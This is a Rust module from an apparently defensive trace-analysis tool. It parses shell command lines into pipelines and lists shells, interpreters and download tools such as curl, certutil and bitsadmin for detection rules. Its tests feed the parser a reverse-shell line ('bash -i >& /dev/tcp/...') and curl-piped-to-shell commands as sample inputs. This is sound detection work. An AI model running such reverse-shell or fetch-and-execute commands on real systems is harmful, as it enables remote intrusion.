//! Command lines: the arguments of programs, and the structure of shell text as far as rules need it.
//!
//! The world's shell does the real parsing; here only the shape of a line counts (which commands, joined by which pipes), so
//! a splitter that knows quotes and substitutions is enough.

use crate::trace::{Event, Trace};

/// The arguments of a `proc.spawn`, program first.
pub(super) fn argv(trace: &Trace, event: &Event) -> Vec<String> {
    match event
        .payload
        .as_ref()
        .and_then(|digest| trace.blobs.get(digest))
    {
        Some(bytes) => {
            let text = String::from_utf8_lossy(bytes);
            text.trim_end_matches('\0')
                .split('\0')
                .map(str::to_owned)
                .collect()
        }
        None => words(&event.subject),
    }
}

/// The name of a program: the last part of its path, lower-case, without `.exe` and the like.
pub(super) fn program_name(event: &Event, argv: &[String]) -> String {
    let path = argv.first().or_else(|| event.detail.get("program"));
    base_name(path.map_or("", String::as_str))
}

/// The last part of a path, lower-case, without the endings of Windows programs.
pub(super) fn base_name(path: &str) -> String {
    let name = path
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(path)
        .to_lowercase();
    for ending in [".exe", ".cmd", ".bat"] {
        if let Some(stem) = name.strip_suffix(ending) {
            return stem.to_owned();
        }
    }
    name
}

/// Programs that run a shell's language.
pub(super) const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ash",
    "ksh",
    "cmd",
    "powershell",
    "pwsh",
];

/// Programs that run text given to them as a program.
pub(super) const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ash",
    "ksh",
    "powershell",
    "pwsh",
    "iex",
    "node",
    "nodejs",
    "bun",
    "deno",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "source",
    ".",
];

/// Programs that fetch something.
pub(super) const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "certutil",
    "bitsadmin",
];

/// The text that a program got as its script on the command line: after `-c`, `-e`, `/c` and the like.
pub(super) fn inline_script(argv: &[String]) -> Option<&str> {
    let name = base_name(argv.first()?);
    let mut rest = argv.iter().skip(1);
    while let Some(argument) = rest.next() {
        let lower = argument.to_lowercase();
        if takes_script(&name, &lower) {
            return rest.next().map(String::as_str);
        }
        match lower.as_str() {
            // These take a value of their own.
            "-o" | "-r" | "--require" | "--import" => drop(rest.next()),
            flag if flag.starts_with('-') || name == "cmd" && flag.starts_with('/') => {}
            // From the first operand on, arguments belong to the script.
            _ => return None,
        }
    }
    None
}

/// Whether an argument of this interpreter says that the next one is the program.
fn takes_script(interpreter: &str, flag: &str) -> bool {
    let short = flag
        .strip_prefix('-')
        .filter(|letters| !letters.starts_with('-'));
    match interpreter {
        "cmd" => matches!(flag, "/c" | "/k"),
        "powershell" | "pwsh" => {
            matches!(flag, "-c" | "-command" | "/c" | "-enc" | "-encodedcommand")
        }
        "node" | "nodejs" | "bun" | "deno" | "perl" | "ruby" => {
            matches!(flag, "-e" | "-p" | "-pe" | "--eval" | "--print" | "eval")
        }
        "php" => flag == "-r",
        "python" | "python3" => flag == "-c",
        shell if SHELLS.contains(&shell) => short.is_some_and(|letters| letters.contains('c')),
        _ => false,
    }
}

/// Characters of a shell text that are looked at; a longer one is no line that somebody wrote.
const TEXT: usize = 64 << 10;
/// How deep substitutions are followed.
const DEPTH: usize = 6;

/// A shell text as pipelines of simple commands of words. Text in `$(...)`, backquotes and `<(...)` stays in its word and
/// is also split, as pipelines of their own.
pub(super) fn pipelines(text: &str) -> Vec<Vec<Vec<String>>> {
    let mut all = Vec::new();
    let mut waiting = vec![(0, text.chars().take(TEXT).collect::<String>())];
    while let Some((depth, text)) = waiting.pop() {
        let mut splitter = Splitter::default();
        splitter.run(&text);
        all.extend(splitter.pipelines);
        if depth < DEPTH {
            waiting.extend(
                splitter
                    .substitutions
                    .into_iter()
                    .map(|inner| (depth + 1, inner)),
            );
        }
    }
    all
}

/// The words of a text, as a shell splits them; operators end words.
pub(super) fn words(text: &str) -> Vec<String> {
    pipelines(text).into_iter().flatten().flatten().collect()
}

#[derive(Default)]
struct Splitter {
    pipelines: Vec<Vec<Vec<String>>>,
    pipeline: Vec<Vec<String>>,
    command: Vec<String>,
    word: String,
    in_word: bool,
    substitutions: Vec<String>,
}

impl Splitter {
    fn run(&mut self, text: &str) {
        let chars: Vec<char> = text.chars().collect();
        let mut at = 0;
        while let Some(&c) = chars.get(at) {
            let next = chars.get(at + 1).copied();
            at += match (c, next) {
                ('\'', _) => self.quoted(&chars, at),
                ('"', _) => self.double_quoted(&chars, at),
                ('\\', Some(escaped)) => self.push(escaped, 2),
                ('$' | '<' | '>', Some('(')) => self.substitution(&chars, at, 2, ')'),
                ('`', _) => self.substitution(&chars, at, 1, '`'),
                ('|', Some('|')) | ('&', Some('&')) => self.end_pipeline(2),
                ('|', Some('&')) => self.end_command(2),
                ('|', _) => self.end_command(1),
                ('&', Some('>')) => self.push('&', 1),
                ('&', _) if !self.word.ends_with(['<', '>']) => self.end_pipeline(1),
                (';' | '\n' | '(' | ')' | '{' | '}', _) => self.end_pipeline(1),
                (' ' | '\t' | '\r', _) => self.end_word(1),
                (c, _) => self.push(c, 1),
            };
        }
        self.end_pipeline(0);
    }

    fn push(&mut self, c: char, taken: usize) -> usize {
        self.word.push(c);
        self.in_word = true;
        taken
    }

    fn quoted(&mut self, chars: &[char], start: usize) -> usize {
        self.in_word = true;
        let rest = chars.get(start + 1..).unwrap_or_default();
        let length = rest.iter().position(|c| *c == '\'').unwrap_or(rest.len());
        self.word.extend(rest.iter().take(length));
        length + 2
    }

    fn double_quoted(&mut self, chars: &[char], start: usize) -> usize {
        self.in_word = true;
        let mut at = start + 1;
        while let Some(&c) = chars.get(at) {
            let next = chars.get(at + 1).copied();
            at += match (c, next) {
                ('"', _) => return at + 1 - start,
                ('\\', Some(escaped @ ('"' | '\\' | '$' | '`'))) => self.push(escaped, 2),
                ('$', Some('(')) => self.substitution(chars, at, 2, ')'),
                ('`', _) => self.substitution(chars, at, 1, '`'),
                (c, _) => self.push(c, 1),
            };
        }
        at - start
    }

    /// Takes a substitution whose opening is `opening` characters long.
    fn substitution(&mut self, chars: &[char], start: usize, opening: usize, close: char) -> usize {
        let mut depth = 0_u32;
        let mut end = start + opening;
        while let Some(&c) = chars.get(end) {
            if c == close && depth == 0 {
                break;
            }
            match c {
                '(' => depth += 1,
                ')' => depth = depth.saturating_sub(1),
                _ => {}
            }
            end += 1;
        }
        let inner: String = chars
            .get(start + opening..end)
            .unwrap_or_default()
            .iter()
            .collect();
        let whole = chars
            .get(start..=end)
            .or_else(|| chars.get(start..))
            .unwrap_or_default();
        self.word.extend(whole);
        self.in_word = true;
        self.substitutions.push(inner);
        end + 1 - start
    }

    fn end_word(&mut self, taken: usize) -> usize {
        if self.in_word {
            self.command.push(std::mem::take(&mut self.word));
            self.in_word = false;
        }
        taken
    }

    fn end_command(&mut self, taken: usize) -> usize {
        self.end_word(0);
        if !self.command.is_empty() {
            self.pipeline.push(std::mem::take(&mut self.command));
        }
        taken
    }

    fn end_pipeline(&mut self, taken: usize) -> usize {
        self.end_command(0);
        if !self.pipeline.is_empty() {
            self.pipelines.push(std::mem::take(&mut self.pipeline));
        }
        taken
    }
}

/// The words of a simple command from its program on: without assignments, `sudo`, `env`, `exec`, `nohup` and the like.
pub(super) fn from_program(command: &[String]) -> &[String] {
    let is_prefix = |word: &String| {
        let assignment = word.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        });
        let wrapper = matches!(
            base_name(word).as_str(),
            "sudo"
                | "env"
                | "exec"
                | "nohup"
                | "command"
                | "time"
                | "setsid"
                | "eval"
                | "then"
                | "do"
                | "else"
                | "!"
        );
        assignment || wrapper || word.starts_with('-')
    };
    let start = command.iter().position(|word| !is_prefix(word));
    start
        .and_then(|start| command.get(start..))
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(text: &str) -> Vec<Vec<Vec<String>>> {
        pipelines(text)
    }

    #[test]
    fn a_line_is_split_at_operators_outside_quotes() {
        assert_eq!(
            shape("a 'b | c' && curl -s \"x;y\" | sudo sh -s; d"),
            [
                vec![vec!["a".to_owned(), "b | c".into()]],
                vec![
                    vec!["curl".to_owned(), "-s".into(), "x;y".into()],
                    vec!["sudo".into(), "sh".into(), "-s".into()]
                ],
                vec![vec!["d".to_owned()]],
            ]
        );
    }

    #[test]
    fn substitutions_stay_and_are_split_as_well() {
        let found = shape("sh -c \"$(curl -s x | tac)\"");
        assert_eq!(found[0][0][2], "$(curl -s x | tac)");
        assert_eq!(found[1], [vec!["curl", "-s", "x"], vec!["tac"]]);
    }

    #[test]
    fn redirections_of_descriptors_do_not_end_a_command() {
        assert_eq!(shape("bash -i >& /dev/tcp/x/1 0>&1")[0][0].len(), 5);
    }

    #[test]
    fn unclosed_text_ends_somewhere() {
        for text in ["'", "\"", "$(", "`", "\\", "\"$(", "<("] {
            let _ = shape(text);
        }
    }

    #[test]
    fn the_inline_script_of_an_interpreter_is_found() {
        let argv = |text: &str| text.split(' ').map(str::to_owned).collect::<Vec<_>>();
        assert_eq!(inline_script(&argv("/bin/sh -c x")), Some("x"));
        assert_eq!(inline_script(&argv("bash -lc x")), Some("x"));
        assert_eq!(inline_script(&argv("node --no-warnings -e x")), Some("x"));
        assert_eq!(inline_script(&argv("node x.js -e y z")), None);
        assert_eq!(inline_script(&argv("sh -e x")), None);
        assert_eq!(inline_script(&argv("curl -c x")), None);
    }

    #[test]
    fn the_program_is_found_behind_its_wrappers() {
        let command: Vec<String> = words("A=1 sudo -E env B=2 bash -s");
        assert_eq!(from_program(&command), ["bash", "-s"]);
    }
}
